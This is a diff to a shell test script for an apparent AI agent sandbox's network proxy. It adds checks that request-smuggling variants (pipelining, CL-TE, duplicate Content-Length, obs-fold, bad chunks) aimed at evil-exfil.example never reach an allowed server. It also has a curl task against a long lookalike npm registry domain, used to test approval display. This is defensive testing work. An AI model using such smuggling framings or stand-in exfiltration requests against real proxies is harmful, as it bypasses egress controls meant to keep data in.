@@ -12,7 +12,7 @@
 set +e
 
 pick_port() { python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])'; }
-P1=$(pick_port) P2=$(pick_port) P3=$(pick_port)
+P1=$(pick_port) P2=$(pick_port) P3=$(pick_port) P4=$(pick_port)
 S=$T/stand
 mkdir -p "$S/www" "$T/pkg"
 fails=0
@@ -34,7 +34,8 @@ sha=$(sha1sum "$T/pkg/cw-netpkg-1.0.0.tgz" | cut -d' ' -f1)
 printf '{"name":"cw-netpkg","dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":"cw-netpkg","version":"1.0.0","main":"index.js","dist":{"shasum":"%s","tarball":"http://127.0.0.1:@PORT@/cw-netpkg/-/cw-netpkg-1.0.0.tgz"}}}}\n' "$sha" > "$S/www/cw-netpkg/index.json"
 mv "$S/www/cw-netpkg/index.json" "$S/www/cw-netpkg/index"
 
-python3 "$CW_SRC/test/escape/netstand.py" "$S" "127.0.0.1:$P1" "127.0.0.2:$P2" "127.0.0.1:$P3" &
+python3 "$CW_SRC/test/escape/netstand.py" "$S" "127.0.0.1:$P1" "127.0.0.2:$P2" "127.0.0.1:$P3" \
+    "vhost=127.0.0.1:$P4" &
 mkdir -p "$T/pids"; echo $! > "$T/pids/stand"
 wait_until 10 "stand-ins" test -s "$S/ready" || fail "stand-ins did not start"
 
@@ -144,6 +145,44 @@ c=$(sql "SELECT count(*) FROM run_events WHERE run_id = '$RID' AND kind = 'net'"
 [ "${c:-0}" -ge 3 ] && row "every connection is a run event (kind net)" "$c events" PASS ||
     row "every connection is a run event (kind net)" "${c:-0}" FAIL
 
+# --- one request per connection, framing that cannot be read two ways (issue 26 item 9) --
+# The vhost stand-in on P4 is allowed by address; it answers every request a connection
+# carries, whatever its Host:, as a lax virtual-hosting front would. Each case sends an
+# allowed request with a second one behind it for evil-exfil.example; the second must
+# never reach the stand-in, and ambiguous framing is refused (400) before anything does.
+cat > "$CLOCKWORK_HOME/config.yaml" <<YAML
+api_port: 0
+network:
+  allow: ["127.0.0.1:$P4"]
+YAML
+SMUG=$(base64 -w0 "$CW_SRC/test/escape/smuggle.py")
+cases="pipelined cl-te dup-cl te-gzip obs-fold bad-chunk te-http10"
+run smuggle "echo $SMUG | base64 -d | python3 - 127.0.0.1:$P4 $cases"
+# The run is over and its proxy gone: every connection the stand-in had is closed.
+vhost_done() { [ "$(grep -c '^open' "$S/requests")" = "$(grep -c '^end' "$S/requests")" ]; }
+touch "$S/requests"
+wait_until 20 "the vhost stand-in's connections to close" vhost_done || true
+[ "${CW_NET_VERBOSE:-0}" = 1 ] && { echo "--- vhost requests"; cat "$S/requests"; }
+# (The client shuts its write side, so the proxy ends the connection once it relayed
+# the request: the row looks at what the server got, not at the answer.)
+grep -q "^pipelined: " "$T/smuggle.log" && grep -q "^GET /first " "$S/requests" &&
+    ! grep -q "/second" "$S/requests" &&
+    row "pipelined: 2nd request (Host: evil-exfil) after an allowed GET" "1st relayed, 2nd not" PASS ||
+    row "pipelined: 2nd request (Host: evil-exfil) after an allowed GET" "$(grep pipelined "$T/smuggle.log"); vhost saw: $(grep '/first\|/second' "$S/requests" | tr '\n' ' ')" FAIL
+for c in cl-te:clte dup-cl:dupcl te-gzip:tegzip obs-fold:fold te-http10:http10; do
+	name=${c%%:*} tag=${c#*:}
+	grep -q "^$name: HTTP/1.1 400" "$T/smuggle.log" && ! grep -q "/$name \|smuggled-$tag" "$S/requests" &&
+	    row "framing $name: refused 400, nothing reached the server" "400" PASS ||
+	    row "framing $name: refused 400, nothing reached the server" "$(grep "^$name:" "$T/smuggle.log"); vhost saw: $(grep "/$name \|smuggled-$tag" "$S/requests" | tr '\n' ' ')" FAIL
+done
+# A malformed chunk is found after the head went upstream: the connection ends there.
+grep -q "^bad-chunk: " "$T/smuggle.log" && ! grep -q "smuggled-chunk" "$S/requests" &&
+    row "framing bad-chunk: the connection ends at the bad chunk" "smuggled request not relayed" PASS ||
+    row "framing bad-chunk: the connection ends at the bad chunk" "$(grep "^bad-chunk:" "$T/smuggle.log"); vhost saw: $(grep smuggled-chunk "$S/requests")" FAIL
+grep -q "evil-exfil" "$S/requests" &&
+    row "no request for evil-exfil.example reached the allowed server" "$(grep -c evil-exfil "$S/requests") did" FAIL ||
+    row "no request for evil-exfil.example reached the allowed server" none PASS
+
 # --- ask mode: a host no rule names is held until a person answers ------------------------
 cat > "$CLOCKWORK_HOME/config.yaml" <<YAML
 api_port: 0
@@ -157,6 +196,11 @@ if wait_until 20 "a network approval" pending; then
 	AID=$(cwctl approvals --run "$RID" --json | sed -n 's/.*"id":	"\([^"]*\)".*/\1/p' | head -1)
 	nothing && run_is "$RID" running && row "ask: CONNECT held as an approval, nothing connected" "held ($AID)" PASS ||
 	    row "ask: CONNECT held as an approval, nothing connected" "$(run_status "$RID") $(cat "$S/connections")" FAIL
+	# A loopback address reaches this machine's own services: not an ordinary ask.
+	risk=$(cwctl approvals show "$AID" | sed -n 's/^risk: *//p')
+	[[ $risk == "outside_worktree (network.private_address)" ]] &&
+	    row "ask: CONNECT 127.0.0.1 is labelled by its risk" "$risk" PASS ||
+	    row "ask: CONNECT 127.0.0.1 is labelled by its risk" "${risk:-none}" FAIL
 	cwctl approve "$AID" --for-task >/dev/null || row "cwctl approve --for-task" "refused" FAIL
 	wait_until 30 "asker ends" run_ended "$RID"
 	cwctl run logs "$RID" --raw > "$T/asker.log" 2>&1
@@ -175,6 +219,31 @@ if wait_until 20 "a network approval" pending; then
 	    row "ask: the next run of the task goes through without asking" "$(cat "$T/asker2.wait")" FAIL
 else
 	row "ask: CONNECT held as an approval" "no approval appeared" FAIL
+fi
+
+# --- a long host name is shown whole wherever the approval is (issue 26 item 9) -----------
+A60=$(printf 'a%.0s' $(seq 60))
+LONG="registry.npmjs.org.$A60.$A60.evil-exfil.example"
+cwctl task add longname --prompt "curl -s -m 60 -o /dev/null https://$LONG/" >/dev/null || fail "task add longname"
+cwctl network longname --ask >/dev/null || fail "cwctl network --ask"
+cwctl run start longname --wait > "$T/longname.wait" 2>&1 &
+echo $! > "$T/pids/longname"
+wait_until 20 "the run of longname" grep -q '^run .* queued' "$T/longname.wait"
+RID=$(sed -n 's/^run \([^ ]*\) queued.*/\1/p' "$T/longname.wait")
+if [ -n "$RID" ] && wait_until 20 "a network approval" pending; then
+	AID=$(cwctl approvals --run "$RID" --json | sed -n 's/.*"id":	"\([^"]*\)".*/\1/p' | head -1)
+	cwctl approvals > "$T/longname.list"
+	grep -qF "$LONG:443" "$T/longname.list" &&
+	    row "cwctl approvals: the whole host name ($((${#LONG})) bytes)" whole PASS ||
+	    row "cwctl approvals: the whole host name ($((${#LONG})) bytes)" "$(grep -o 'registry[^ ]*' "$T/longname.list")" FAIL
+	wait_until 10 "the announcement" grep -q "$AID" "$T/longname.wait"
+	grep -qF "$LONG:443" "$T/longname.wait" &&
+	    row "cwctl run start --wait announcement: the whole host name" whole PASS ||
+	    row "cwctl run start --wait announcement: the whole host name" "$(grep -o 'registry[^ ]*' "$T/longname.wait")" FAIL
+	cwctl deny "$AID" >/dev/null
+	wait_until 30 "longname ends" run_ended "$RID"
+else
+	row "cwctl approvals: the whole host name" "no approval appeared: $(head -c 300 "$T/longname.wait")" FAIL
 fi
 
 # --- network: open is loud ----------------------------------------------------------------
